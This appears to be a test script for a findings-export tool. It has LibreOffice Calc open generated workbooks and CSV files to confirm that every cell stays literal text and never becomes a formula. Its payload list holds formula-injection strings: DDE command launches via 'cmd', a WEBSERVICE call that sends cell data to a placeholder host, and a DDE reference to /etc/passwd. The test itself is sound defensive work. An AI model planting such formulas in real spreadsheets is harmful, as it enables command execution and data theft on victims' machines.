/**
 * Workbooks of findings, opened by a spreadsheet program that is not ours: LibreOffice Calc writes every sheet of each
 * as CSV, and every cell must come back as the text that it is, whatever a vendor put into it; no cell may be a
 * formula. The CSV file of the findings is opened as well. Needs soffice with Calc.
 */
import { execFileSync } from "node:child_process";
import { existsSync, globSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { constantFrom, oneof, sample, string } from "fast-check";
import { csvOf } from "#core/output/csv";
import { findingsSheets, type Sheet } from "#core/output/findings-sheets";
import { xlsxOf } from "#core/output/xlsx";
import { nastyReview } from "../support/nasty-review.ts";
import { nastyTexts } from "../support/nasty-texts.ts";

const books = Number(process.env.BOOKS ?? 60);
const folder = mkdtempSync(join(tmpdir(), "countersign-books-"));
const failures: string[] = [];

const formulas = [
  '=HYPERLINK("http://example.invalid","Click me")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=WEBSERVICE("http://example.invalid/"&A1)',
  '=DDE("soffice";"/etc/passwd";1)',
  "\t=1+1",
  "\r\n=1+1",
  "  =1+1",
  "＝1+1",
  "＋1+1",
  "'=1+1",
  '"=1+1',
  "{=1+1}",
  "1E5",
  "001",
  "12/11/2026",
  "TRUE",
  "#REF!",
  "_x0041__x000D_",
  "half \uD83D and \uDE00",
  'a "quoted" one, with; every\tmark',
  "line\nline\r\n\r\nline",
];
const anyText = oneof(
  constantFrom(...formulas),
  constantFrom(...nastyTexts.map((text) => text.slice(0, 2_000))),
  string({ unit: "binary", maxLength: 80 }),
  string({
    unit: constantFrom(
      "=",
      "+",
      "-",
      "@",
      "|",
      "\t",
      "\n",
      "\r",
      "'",
      '"',
      ";",
      ",",
      "\uD800",
      "\u0000",
      "1",
      "A",
    ),
    maxLength: 30,
  }),
);

/** 44 a comma, 34 the quotation mark, 76 UTF-8; every text quoted, each cell as it is shown, each sheet a file. */
const eachSheetAsCsv = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,true,false,false,-1";
/** Columns parted by commas, and what looks like a number, a day or a formula taken for one. */
const readingCsv = "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true";

function convert(to: string, files: readonly string[], outFolder: string, ...more: string[]): void {
  const profile = `-env:UserInstallation=file://${join(folder, "profile")}`;
  const args = [profile, "--headless", ...more, "--convert-to", to, "--outdir", outFolder, ...files];
  execFileSync("soffice", args, { encoding: "utf8", maxBuffer: 1e9, stdio: ["ignore", "pipe", "pipe"] });
}

/** Nothing says beforehand whether this LibreOffice has its spreadsheet program. */
function hasCalc(): boolean {
  const probe = join(folder, "probe.csv");
  writeFileSync(probe, "one\n");
  try {
    convert("ods", [probe], folder);
  } catch {
    return false;
  }
  return existsSync(join(folder, "probe.ods"));
}

/** Calc takes line ends inside a cell for one kind, and ends a sheet at its last cell with something in it. */
const asCalc = (text: string) => text.replaceAll(/\r\n?/g, "\n");

function compare(name: string, { rows, name: sheet }: Sheet, bytes: Buffer): void {
  const read: string[][] = parse(bytes, { bom: true, relaxColumnCount: true });
  for (const [at, row] of rows.entries())
    for (const [i, text] of row.entries()) {
      const found = read[at]?.[i] ?? "";
      if (found !== asCalc(text))
        failures.push(
          `${name}, ${sheet}, row ${at + 1}, column ${i + 1}: ${JSON.stringify(found.slice(0, 80))} instead of ${JSON.stringify(text.slice(0, 80))}`,
        );
    }
  if (read.length > rows.length) failures.push(`${name}, ${sheet}: more rows than there should be`);
}

try {
  if (!hasCalc()) {
    console.log(
      "LibreOffice Calc is not on this machine, so no workbook was opened by it. Install it (Debian: apt-get install libreoffice-calc) and run this again.",
    );
    process.exitCode = 1;
  } else {
    const written = new Map<string, Sheet[]>();
    for (let seed = 0; seed < books; seed += 1) {
      const {
        record,
        reviewDigest: digest,
        draft,
      } = nastyReview(seed, sample(anyText, { numRuns: 24, seed }));
      const sheets = findingsSheets({ record, digest, draft });
      written.set(`book-${seed}`, sheets);
      writeFileSync(join(folder, `book-${seed}.xlsx`), await xlsxOf(sheets));
      writeFileSync(join(folder, `book-${seed}.findings.csv`), csvOf(sheets[0]?.rows ?? []));
    }
    const files = [...written.keys()].map((name) => join(folder, `${name}.xlsx`));
    const shown = join(folder, "shown");
    mkdirSync(shown);
    convert(eachSheetAsCsv, files, shown);
    let cells = 0;
    for (const [name, sheets] of written)
      for (const sheet of sheets) {
        const file = join(shown, `${name}-${sheet.name}.csv`);
        if (!existsSync(file)) failures.push(`${name}: Calc does not show the sheet ${sheet.name}`);
        else compare(name, sheet, readFileSync(file));
        cells += sheet.rows.reduce((sum, row) => sum + row.length, 0);
      }
    console.log(`${books} workbooks opened by Calc, ${cells} cells compared`);

    const asXml = join(folder, "as-xml");
    mkdirSync(asXml);
    convert("fods", files, asXml);
    const plain = [...written.keys()].map((name) => join(folder, `${name}.findings.csv`));
    convert("fods", plain, asXml, readingCsv);
    const opened = globSync("*.fods", { cwd: asXml });
    if (opened.length !== files.length + plain.length)
      failures.push(`Calc opens ${opened.length} of ${files.length + plain.length} files`);
    for (const name of opened)
      if (readFileSync(join(asXml, name), "utf8").includes("table:formula="))
        failures.push(`${name}: Calc finds a formula`);
    console.log(`${opened.length} workbooks and CSV files looked through for formulas`);
    console.log(
      failures.length === 0
        ? "Calc shows every cell as it should be, and no formula"
        : `${failures.slice(0, 60).join("\n")}\n${failures.length} in all`,
    );
    process.exitCode = failures.length === 0 ? 0 : 1;
  }
} finally {
  rmSync(folder, { recursive: true, force: true });
}
